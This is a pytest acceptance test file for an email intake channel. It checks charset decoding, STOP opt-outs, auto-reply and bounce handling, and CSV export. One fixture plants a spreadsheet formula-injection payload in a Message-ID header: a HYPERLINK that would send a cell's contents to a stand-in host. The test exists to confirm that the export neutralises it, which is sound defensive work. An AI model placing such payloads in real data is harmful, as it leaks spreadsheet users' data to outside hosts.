"""Letters as programs write them: fetched all at once, then looked at one by one."""

import json
from base64 import b64encode
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from quopri import encodestring
from typing import Final

import pytest

from tests.acceptance.cases.ground import make_ground
from tests.acceptance.conftest import Installations
from tests.acceptance.installation import Installation, wait_for
from tests.channels.email.mailbox import ADDRESS, run_mailbox
from tests.port import find_free_port

_FETCHED_TIMEOUT_S: Final = 480
_PLAIN: Final = "Content-Type: text/plain; charset=utf-8"


def write_letter(name: str, body: bytes | str, *headers: str | bytes, sender: str = "") -> bytes:
    """A letter of somebody who writes no other; among the headers is its kind."""
    sender = sender or f"{name.replace(' ', '-')}@mail.example"
    usual = [f"From: {sender}", f"To: {ADDRESS}", "Date: Mon, 16 Nov 2026 08:15:00 -0500", "MIME-Version: 1.0"]
    if not any(str(header).startswith("Message-ID") for header in headers):
        usual.append(f"Message-ID: <{name.replace(' ', '-')}@mail.example>")
    lines = [line.encode() if isinstance(line, str) else line for line in (*usual, *headers)]
    return b"\r\n".join([*lines, b"", body.encode() if isinstance(body, str) else body, b""])


CREOLE: Final = "Pa gen dlo nan Pòtoprens"
NEPALI: Final = "धुलिखेलमा तीन दिनदेखि खानेपानी आएको छैन"
FRENCH: Final = "Le forage près de l’école est cassé"
ARABIC: Final = "لا ماء في صنعاء منذ يومين"
_HTML: Final = '<html><head><meta charset="{}"></head><body><p>{}</p></body></html>'
# The label of the letters, how they are packed, their bytes, and the words.
WRITTEN: Final = {
    "no label": ("text/plain", "8bit", CREOLE.encode(), CREOLE),
    "ascii": ("text/plain; charset=us-ascii", "8bit", CREOLE.encode(), CREOLE),
    "latin label": ("text/plain; charset=iso-8859-1", "8bit", NEPALI.encode(), NEPALI),
    "base64 without label": ("text/plain", "base64", b64encode(NEPALI.encode()), NEPALI),
    "quoted without label": ("text/plain", "quoted-printable", encodestring(CREOLE.encode()), CREOLE),
    "alias": ("text/plain; charset=cp-850", "8bit", "Le forage est cassé".encode("cp850"), "Le forage est cassé"),
    "another alias": ("text/plain; charset=cp-1256", "8bit", ARABIC.encode("cp1256"), ARABIC),
    "unknown label": ("text/plain; charset=x-unknown", "8bit", CREOLE.encode(), CREOLE),
    "windows without label": ("text/plain", "8bit", FRENCH.encode("cp1252"), FRENCH),
    "label of the html": ("text/html", "8bit", _HTML.format("utf-8", CREOLE).encode(), CREOLE),
    "arabic html": ("text/html", "8bit", _HTML.format("windows-1256", ARABIC).encode("cp1256"), ARABIC),
}  # fmt: skip
SUBJECTS: Final = {
    "raw subject": b"Subject: Dlo nan P\xc3\xb2toprens",
    "subject of ascii": b"Subject: =?us-ascii?Q?Dlo_nan_P=C3=B2toprens?=",
    "subject of an alias": b"Subject: =?cp-1252?Q?Dlo_nan_P=F2toprens?=",
}
_QUOTED: Final = "Thank you. Your reference is 7QX2M9HCFP. STOP to get no more."
LEAVING: Final = {
    "iphone": "STOP\r\n\r\nSent from my iPhone",
    "french iphone": "STOP\r\n\r\nEnvoyé de mon iPhone",
    "spanish iphone": "STOP\r\n\r\nEnviado desde mi iPhone",
    "portuguese iphone": "PARAR\r\n\r\nEnviado do meu iPhone",
    "arabic iphone": "إيقاف\r\n\r\nأُرسلت من الـ iPhone",
    "galaxy": "Stop\r\n\r\nEnvoyé depuis mon appareil Galaxy",
    "yahoo app": "Stop\r\n\r\nSent from Yahoo Mail on Android",
    "proton": "STOP\r\n\r\nSent with Proton Mail secure email.",
    "outlook": "Stop\r\n\r\nGet Outlook for Android<https://aka.ms/AAb9ysg>\r\n________________________________\r\n"
    f"From: Baraza <{ADDRESS}>\r\nSent: Monday, November 16, 2026 8:01 AM\r\nSubject: Baraza\r\n\r\n{_QUOTED}",
    "french outlook": "Arrêt\r\n\r\nTélécharger Outlook pour iOS<https://aka.ms/o0ukef>",
    "unmarked": f"STOP\r\n\r\nOn Monday, November 16, 2026 at 08:01 AM, Baraza <{ADDRESS}> wrote:\r\n\r\n{_QUOTED}",
    "unmarked french": f"STOP\r\n\r\nLe lundi 16 novembre 2026 à 08:01, Baraza <{ADDRESS}> a écrit :\r\n\r\n{_QUOTED}",
    "polite": "Please stop.\r\nThank you\r\n\r\nSent from my Samsung Galaxy smartphone.",
}
# Subject, body, whether it is an order to be left alone as well.
SHORT: Final = {
    "place above": ("Delmas 33", "Inondasyon", False), "english help": ("Kibera fire", "help", False),
    "french help": ("Incendie Delmas", "aide", False), "creole help": ("Dife Fontamara", "Èd", False),
    "report above stop": ("Tiyo kase", "STOP", True),
}  # fmt: skip
_PARTS: Final = "Content-Type: multipart/alternative; boundary=b1"
_KIND: Final = "Content-Type: text/{}; charset=utf-8\r\n\r\n"
_TWO: Final = (
    f"--b1\r\n{_KIND.format('plain')}{{}}\r\n--b1\r\n{_KIND.format('html')}"
    "<p>Tiyo dlo a kase nan Delmas 33</p>\r\n--b1--"
)
_TAP: Final = "Tiyo dlo a kase nan Delmas 33"
_FLOWED: Final = "Content-Type: text/plain; charset=utf-8; format=flowed"
SHAPED: Final = {
    "notice": (_PARTS, _TWO.format("This message contains HTML. Please use a reader that shows HTML."), _TAP),
    "french notice": (_PARTS, _TWO.format("Votre logiciel de messagerie ne prend pas en charge le HTML."), _TAP),
    "empty plain": (_PARTS, _TWO.format(" "), _TAP),
    "delsp": (f"{_FLOWED}; delsp=yes", "Dry for days near Saint-M \r\narc hospital.", "near Saint-Marc hospital."),
    "flowed": (_FLOWED, "Dry for days near \r\nSaint-Marc hospital.", "near Saint-Marc hospital."),
}
_BOUNCE: Final = "Content-Type: multipart/report; report-type=delivery-status; boundary=b1"
AUTOMATIC: Final = {
    "rules": ["X-MS-Exchange-Generated-Message-Source: Mailbox Rules Agent", _PLAIN],
    "precedence": ["X-Autorespond: yes", "Precedence: auto-reply", _PLAIN],
    "underscore": ["Precedence: auto_reply", _PLAIN],
    "autoreply": ["X-Autoreply: yes", _PLAIN],
    "machine": ["X-FC-MachineGenerated: true", _PLAIN],
}


@dataclass(frozen=True)
class Fetched:
    """What became of the letters, each by its name."""

    texts: Mapping[str, str]
    opted_out: Mapping[str, bool]
    answers: Mapping[str, int]
    reports: Mapping[str, bool]
    exported: list[str]


_STORED: Final = """
SELECT message.external_id, message.text, contact.opted_out_at IS NOT NULL, message.report_id IS NOT NULL,
       (SELECT count(*) FROM message AS out WHERE out.direction = 'out' AND out.contact_id = message.contact_id)
  FROM message LEFT JOIN contact ON contact.id = message.contact_id WHERE message.direction = 'in'
"""


@pytest.fixture(scope="module")
def fetched(installations: Installations, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fetched]:
    """All letters of these tests, fetched and processed."""
    letters = list(write_letters())
    with run_mailbox() as mailbox:
        # Nobody listens at the mail server's port: answers wait, and are counted.
        options = mailbox.options | {"smtp_host": "127.0.0.1", "smtp_port": find_free_port(), "smtp_tls": False}
        channels = tmp_path_factory.mktemp("mail") / "channels.yaml"
        channels.write_text(json.dumps({"email": options}))
        mailbox.put(*letters)
        with installations.make(CHANNELS_FILE=str(channels)) as installation:
            lines = [{"channel": "email", "address": ADDRESS}]
            make_ground(installation, "letters", "HT", "ht", "fr", "en", "es", "pt", "ar", more={"lines": lines})
            with fetching(installation):
                wait_for(
                    lambda: is_all_processed(installation, len(letters)), "letters are processed", _FETCHED_TIMEOUT_S
                )
            rows = {row[0].strip("<>").partition("@")[0].replace("-", " "): row for row in installation.sql(_STORED)}
            exported_to = installation.var / "messages.csv"
            installation.command("messages", "export", "-o", exported_to, "--campaign", "letters")
            yield Fetched(
                {name: row[1] for name, row in rows.items()}, {name: bool(row[2]) for name, row in rows.items()},
                {name: row[4] for name, row in rows.items()}, {name: row[3] for name, row in rows.items()},
                exported_to.read_text("utf-8-sig").splitlines(),
            )  # fmt: skip


@contextmanager
def fetching(installation: Installation) -> Iterator[None]:
    """Run a worker and the scheduler that has it look into the mailbox, by the commands of docs/install.md."""
    commands = installation.tree.list_processes()
    running = [
        installation.tree.start(*commands[name], environment=installation.environment)
        for name in ("worker", "scheduler")
    ]
    try:
        yield
    finally:
        for process in running:
            process.kill()
        for process in running:
            process.wait(240)


def is_all_processed(installation: Installation, count: int) -> bool:
    """Whether so many letters are stored and none waits."""
    [row] = installation.sql(
        "SELECT count(*), count(*) FILTER (WHERE state = 'received') FROM message WHERE direction = 'in'"
    )
    return row == (count, 0)


def write_letters() -> Iterator[bytes]:
    """The letters of all tests."""
    for name, (kind, packing, body, _) in WRITTEN.items():
        yield write_letter(name, body, "Subject: Dlo", f"Content-Type: {kind}", f"Content-Transfer-Encoding: {packing}")
    for name, subject in SUBJECTS.items():
        yield write_letter(name, "Pa gen dlo ditou", subject, _PLAIN)
    for name, text in LEAVING.items():
        yield write_letter(name, text, "Subject: Re: Baraza", "In-Reply-To: <ours@baraza.example>", _PLAIN)
    for name, (subject_text, text, _) in SHORT.items():
        yield write_letter(name, text, f"Subject: {subject_text}", _PLAIN)
    for name, (kind, text, _) in SHAPED.items():
        yield write_letter(name, text, "Subject: Dlo", kind)
    for name, headers in AUTOMATIC.items():
        yield write_letter(name, "I am away until Monday.", "Subject: Re: Baraza", *headers)
    yield write_letter("bounce", "--b1\r\n\r\nNot delivered.\r\n--b1--", _BOUNCE, sender="MAILER-DAEMON@mail.example")
    yield write_letter("ordinary", "Pa gen dlo nan lekòl la", "Subject: Dlo", _PLAIN)
    formula = 'Message-ID: =HYPERLINK("http://e.example/?x="&A2,"open")'
    yield write_letter("formula", "Pa gen dlo nan mache a", "Subject: Dlo", formula, _PLAIN)


@pytest.mark.parametrize("name", WRITTEN)
def test_letters_keep_their_letters(fetched: Fetched, name: str) -> None:
    """Case 01: a charset that is missing, untrue, unknown, or only in the HTML."""
    assert WRITTEN[name][3] in fetched.texts[name]


@pytest.mark.parametrize("name", SUBJECTS)
def test_subjects_keep_their_letters(fetched: Fetched, name: str) -> None:
    """Case 01: the same in the subject."""
    assert "Dlo nan Pòtoprens" in fetched.texts[name]


@pytest.mark.parametrize("name", LEAVING)
def test_stop_above_a_footer_or_a_quotation_is_stop(fetched: Fetched, name: str) -> None:
    """Case 08: what a phone's program puts below STOP, and a quotation without marks."""
    assert fetched.opted_out[name], fetched.texts[name]


@pytest.mark.parametrize("name", SHORT)
def test_the_subject_of_a_short_letter_is_part_of_it(fetched: Fetched, name: str) -> None:
    """Case 23: a place or a cry in the subject above one word is a report, whatever the word is."""
    subject, _, is_leaving = SHORT[name]
    assert (subject in fetched.texts[name], fetched.reports[name]) == (True, True)
    assert fetched.opted_out[name] is is_leaving


@pytest.mark.parametrize("name", SHAPED)
def test_what_a_person_reads_is_the_text(fetched: Fetched, name: str) -> None:
    """Case 27: lines that a program broke, and a plain part that only says that there is HTML."""
    assert SHAPED[name][2] in fetched.texts[name]


@pytest.mark.parametrize("name", [*AUTOMATIC, "bounce"])
def test_what_a_machine_answers_is_not_answered(fetched: Fetched, name: str) -> None:
    """Case 28: absence notes and bounces; an ordinary letter is answered."""
    assert fetched.answers[name] == 0
    assert fetched.answers["ordinary"] > 0


def test_ids_from_outside_are_no_formulas(fetched: Fetched) -> None:
    """Case 20: a Message-ID that a spreadsheet would compute."""
    lines = [line for line in fetched.exported if "HYPERLINK" in line]
    assert lines
    assert not lines[0].lstrip('"').startswith("="), lines
